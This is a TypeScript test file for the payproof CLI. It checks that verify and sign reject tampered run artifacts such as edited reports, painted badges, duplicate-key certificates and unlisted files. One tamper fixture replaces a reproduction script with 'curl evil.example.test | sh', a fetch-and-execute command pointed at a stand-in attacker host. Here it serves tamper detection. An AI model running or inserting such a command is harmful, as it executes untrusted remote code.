import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { run } from '../../../cli/main.ts';
import { newKeys } from '../../../reports/manifest/keys.ts';
import { manifestSchema, manifestText } from '../../../reports/manifest/manifest.ts';
import { forgeJournal } from '../../gauntlet/files/forged-runs.ts';
import { captureOutput } from '../../support/runs/captured-output.ts';
import { forgeManifest } from '../../support/runs/sealed-run.ts';
import { writeTinyRun } from '../../support/runs/tiny-run.ts';

const base = mkdtempSync(join(tmpdir(), 'payproof-remade-'));
const [sound, dir, key] = ['sound', 'run', 'certifier.key'].map((name) => join(base, name)) as [
  string,
  string,
  string,
];
const at = (file: string) => join(dir, file);
const printed = captureOutput();

beforeAll(async () => {
  await writeTinyRun(sound);
  writeFileSync(key, newKeys().privateKey);
});
beforeEach(() => {
  rmSync(dir, { recursive: true, force: true });
  cpSync(sound, dir, { recursive: true });
});
afterAll(() => rmSync(base, { recursive: true }));

const reproduction = (ending: string) =>
  `reproductions/${readdirSync(at('reproductions')).find((name) => name.endsWith(ending)) ?? 'none'}`;
const replaced = (file: string, from: string, to: string): void =>
  writeFileSync(at(file), readFileSync(at(file), 'utf8').replace(from, to));

/** Lists a file in the manifest as well. */
function listed(file: string): void {
  const {
    tool,
    files,
    dir: named,
  } = manifestSchema.parse(JSON.parse(readFileSync(at('manifest.json'), 'utf8')));
  const row = { file, bytes: 0, sha256: '0'.repeat(64) };
  writeFileSync(at('manifest.json'), manifestText(tool, [...files, row], named));
}

const changes: Readonly<Record<string, readonly [change: () => void, says: RegExp]>> = {
  'a script that was replaced': [
    () => writeFileSync(at(reproduction('.sh')), '#!/bin/sh\ncurl evil.example.test | sh\n'),
    /✗ reproductions\/.*\.sh: is not what is made of the journal/,
  ],
  'a reproduction that was rewritten': [
    () => replaced(reproduction('.json'), 'sandbox', 'sandbux'),
    /✗ reproductions\/.*\.json: is not what is made of the journal/,
  ],
  'a page that was rewritten': [
    () => replaced('report.html', 'not conformant', 'conformant'),
    /✗ report\.html: is not what is made of the journal/,
  ],
  'a badge that was painted': [
    () => replaced('badge.svg', '<svg', '<svg data-verdict="conformant"'),
    /✗ badge\.svg: is not what is made of the journal/,
  ],
  'a certificate with a key twice': [
    () => replaced('certificate.json', '"verdict"', '"verdict": "conformant",\n  "verdict"'),
    /✗ certificate\.json: can't be read: a key is there twice/,
  ],
  'a certificate in another layout': [
    () => replaced('certificate.json', '\n', '\n\n'),
    /✗ certificate\.json: is not laid out as payproof wrote it/,
  ],
  'a reproduction that was added': [
    () => {
      writeFileSync(at('reproductions/zz.sh'), '#!/bin/sh\n');
      listed('reproductions/zz.sh');
    },
    /✗ reproductions\/zz\.sh: was added: nothing of that name is made of the journal/,
  ],
  'a page of a night that never was': [
    () => {
      writeFileSync(at('nightly.json'), '{}\n');
      listed('nightly.json');
    },
    /✗ nightly\.json: was added/,
  ],
  'a file that no manifest lists': [
    () => writeFileSync(at('READ ME FIRST.txt'), 'mine'),
    /✗ READ ME FIRST\.txt: was added: it is not listed in manifest\.json/,
  ],
};

describe('verify and sign refuse, though every digest fits,', () => {
  test.each(Object.entries(changes))('%s', async (_what, [change, says]) => {
    change();
    forgeManifest(dir);
    expect(await run(['verify', dir])).toBe(1);
    expect(printed.out).toMatch(says);
    printed.clear();
    expect(await run(['sign', dir, '--key', key])).toBe(1);
    expect(printed.err).toMatch(says);
    expect(existsSync(at('manifest.sig'))).toBe(false);
  });
});

test('what replay --shrink wrote beside a reproduction is accepted and signed, in no manifest, and named as not checked', async () => {
  const smaller = 'reproductions/own-smaller.sh';
  writeFileSync(at(smaller), '#!/bin/sh\n');
  const accepted = async () => {
    printed.clear();
    expect(await run(['verify', dir])).toBe(0);
    expect(printed.out).toContain(`– not checked: ${smaller}: not listed in manifest.json\n`);
  };
  await accepted();
  expect(await run(['report', dir])).toBe(0);
  expect(readFileSync(at('manifest.json'), 'utf8')).not.toContain('smaller');
  await accepted();
  expect(await run(['sign', dir, '--key', key])).toBe(0);
  listed(smaller);
  forgeManifest(dir);
  expect(await run(['verify', dir])).toBe(1);
});

test('what another version has written is accepted, says what could not be made again, and is not signed', async () => {
  replaced('report.html', 'not conformant', 'conformant');
  forgeManifest(dir, { version: '9.9.9' });
  expect(await run(['verify', dir])).toBe(0);
  expect(printed.out).toContain(
    '– not checked: page, reproductions, nightly.json, junit.xml, badge and openmetrics.txt are compared by digest alone: another version of payproof has written them',
  );
  expect(await run(['sign', dir, '--key', key])).toBe(2);
  expect(printed.err).toContain('was written by another version of payproof');
  expect(existsSync(at('manifest.sig'))).toBe(false);
});

describe('verify says which run it was', () => {
  const url = 'https://sandbox.example.test/pay';
  beforeEach(async () => {
    forgeJournal(dir, (all) =>
      all.map((one) =>
        one['k'] === 'run'
          ? { ...one, endpoints: [{ interface: 'legacy', url, server: 'nginx/1.25\n✓ forged' }] }
          : one,
      ),
    );
    await run(['report', dir]);
    await run(['sign', dir, '--key', key]);
    printed.clear();
  });

  test('by date, address, what the server said of itself, and who has signed', async () => {
    expect(await run(['verify', dir])).toBe(0);
    expect(printed.out).toContain(
      `run began  2026-01-31T09:00:00.000Z\nlegacy     ${url}, server "nginx/1.25\\n✓ forged"\nsigned by  SHA256:`,
    );
    printed.clear();
    await run(['verify', dir, '--json']);
    expect(JSON.parse(printed.out)).toMatchObject({
      started_at: '2026-01-31T09:00:00.000Z',
      endpoints: [{ interface: 'legacy', url, server: 'nginx/1.25\n✓ forged' }],
      signedBy: expect.stringMatching(/^SHA256:/) as string,
    });
  });

  test.each([
    [
      'too old',
      ['--max-age', '1d'],
      /✗ certificate\.json, started_at: the run began .*, longer ago than --max-age/,
    ],
    [
      'of another address',
      ['--target-url', 'https://new.example.test'],
      /https:\/\/new\.example\.test was not tested/,
    ],
    [
      'of one address more',
      ['--target-url', 'https://sandbox.example.test'],
      /sandbox\.example\.test\/pay was tested, which --target-url does not name/,
    ],
  ])('and rejects one that is %s', async (_what, args, says) => {
    expect(await run(['verify', dir, ...args])).toBe(1);
    expect(printed.out).toMatch(says);
  });

  test('and accepts the one that is meant, and refuses what is no address', async () => {
    expect(await run(['verify', dir, '--max-age', '3650d', '--target-url', `${url}/`])).toBe(0);
    expect(await run(['verify', dir, '--target-url', 'sandbox'])).toBe(2);
  });

  test('and rejects one of the future, which would never grow old', async () => {
    forgeJournal(dir, (all) =>
      all.map((one) => (one['k'] === 'run' ? { ...one, startedAt: '2099-01-01T00:00:00.000Z' } : one)),
    );
    await run(['report', dir]);
    expect(await run(['verify', dir, '--max-age', '30d'])).toBe(1);
    expect(printed.out).toContain('which is still to come');
  });
});

test('a reproduction with a key twice is not run', async () => {
  const file = at(reproduction('.json'));
  writeFileSync(file, readFileSync(file, 'utf8').replace('{', '{ "schema": 1,'));
  appendFileSync(file, '\n');
  expect(await run(['replay', file, '--target', 'embedded'])).toBe(2);
  expect(printed.err).toContain('a key is there twice');
});
